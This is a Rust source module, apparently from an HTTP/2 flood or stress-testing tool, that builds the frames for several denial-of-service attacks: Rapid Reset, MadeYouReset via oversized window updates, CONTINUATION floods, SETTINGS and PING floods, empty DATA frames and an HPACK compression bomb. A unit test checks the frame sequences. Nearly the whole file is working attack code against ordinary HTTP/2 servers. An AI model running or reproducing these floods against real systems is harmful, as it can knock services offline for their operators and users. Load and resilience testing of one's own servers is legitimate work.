//! What a flood sends: the start of a connection, and one unit after the other.

use super::frame::{
    CANCEL, END_HEADERS, END_STREAM, FIRST_REMEMBERED, Kind, PAYLOAD_MAX, PREFACE, field_block,
    literal, push, remembered,
};
use crate::scenario::FloodKind;

/// Writes the units of one connection.
pub(super) struct Attack {
    kind: FloodKind,
    /// Of a request as it is in order.
    block: Vec<u8>,
    /// The stream of the next request.
    stream: u32,
    /// Whether the one thing that all units hang on is sent: an open stream, or an entry of a table.
    begun: bool,
}

impl Attack {
    pub(super) fn new(kind: FloodKind, head: &http::Request<()>) -> Self {
        Self { kind, block: field_block(head), stream: 1, begun: false }
    }

    /// What every client says first.
    pub(super) fn hello(into: &mut Vec<u8>) {
        into.extend_from_slice(PREFACE);
        push(into, Kind::Settings, 0, 0, &[]);
    }

    /// Appends a unit.
    pub(super) fn unit(&mut self, into: &mut Vec<u8>) {
        match self.kind {
            FloodKind::RapidReset => {
                let stream = self.request(into, END_STREAM | END_HEADERS);
                push(into, Kind::Reset, 0, stream, &CANCEL.to_be_bytes());
            }
            // More than a window may be (RFC 9113, 6.9.1): the server has to reset the stream itself.
            FloodKind::MadeYouReset => {
                let stream = self.request(into, END_STREAM | END_HEADERS);
                push(into, Kind::WindowUpdate, 0, stream, &0x7FFF_FFFF_u32.to_be_bytes());
            }
            FloodKind::Continuation => {
                let stream = self.begin(into, 0);
                let mut more = Vec::new();
                literal(&mut more, b"x-more", &[b'a'; 64]);
                push(into, Kind::Continuation, 0, stream, &more);
            }
            // A value for the number of streams that a client would bear.
            FloodKind::Settings => push(into, Kind::Settings, 0, 0, &[0, 3, 0, 0, 0, 100]),
            FloodKind::Ping => push(into, Kind::Ping, 0, 0, b"flooding"),
            FloodKind::EmptyData => {
                let stream = self.begin(into, END_HEADERS);
                push(into, Kind::Data, 0, stream, &[]);
            }
            FloodKind::HpackBomb => self.bomb(into),
            FloodKind::Connect | FloodKind::Handshake => {}
        }
    }

    /// The head of a request on a stream of its own.
    fn request(&mut self, into: &mut Vec<u8>, flags: u8) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        push(into, Kind::Headers, flags, stream, &self.block);
        stream
    }

    /// The head of the one request that units belong to.
    fn begin(&mut self, into: &mut Vec<u8>, flags: u8) -> u32 {
        if !self.begun {
            self.begun = true;
            self.request(into, flags);
        }
        1
    }

    /// A field of four thousand bytes is told once, and then meant by one byte each, as often as a frame has room.
    fn bomb(&mut self, into: &mut Vec<u8>) {
        let mut block = self.block.clone();
        if !self.begun {
            self.begun = true;
            remembered(&mut block, b"x-bomb", &[b'a'; BOMB]);
        }
        block.resize(PAYLOAD_MAX, FIRST_REMEMBERED);
        let stream = self.stream;
        self.stream += 2;
        push(into, Kind::Headers, END_STREAM | END_HEADERS, stream, &block);
    }

    /// Whether streams have run out, and with them the connection.
    pub(super) fn is_spent(&self) -> bool {
        self.stream > 0x7FFF_0000
    }
}

/// An entry takes its name, its value and 32 bytes of the 4096 that a table has (RFC 7541, 4.1 and RFC 9113, 6.5.2).
const BOMB: usize = 4_000;

#[cfg(test)]
mod tests {
    use super::*;

    fn units(kind: FloodKind, count: usize) -> Vec<(u8, u32)> {
        let head = http::Request::builder().uri("http://a.example/").body(()).unwrap();
        let (mut attack, mut bytes) = (Attack::new(kind, &head), Vec::new());
        (0..count).for_each(|_| attack.unit(&mut bytes));
        let (mut rest, mut frames) = (bytes.as_slice(), Vec::new());
        while let [a, b, c, kind, _, stream @ ..] = rest {
            let length = usize::from(*a) << 16 | usize::from(*b) << 8 | usize::from(*c);
            assert!(length <= PAYLOAD_MAX);
            frames.push((*kind, u32::from_be_bytes(stream[..4].try_into().unwrap())));
            rest = &rest[9 + length..];
        }
        frames
    }

    #[test]
    fn units_are_the_frames_that_they_should_be() {
        for (kind, frames) in [
            (FloodKind::RapidReset, &[(1, 1), (3, 1), (1, 3), (3, 3)][..]),
            (FloodKind::MadeYouReset, &[(1, 1), (8, 1), (1, 3), (8, 3)]),
            (FloodKind::Continuation, &[(1, 1), (9, 1), (9, 1)]),
            (FloodKind::Settings, &[(4, 0), (4, 0)]),
            (FloodKind::Ping, &[(6, 0), (6, 0)]),
            (FloodKind::EmptyData, &[(1, 1), (0, 1), (0, 1)]),
            (FloodKind::HpackBomb, &[(1, 1), (1, 3)]),
        ] {
            assert_eq!(units(kind, 2), frames, "{kind:?}");
        }
    }
}
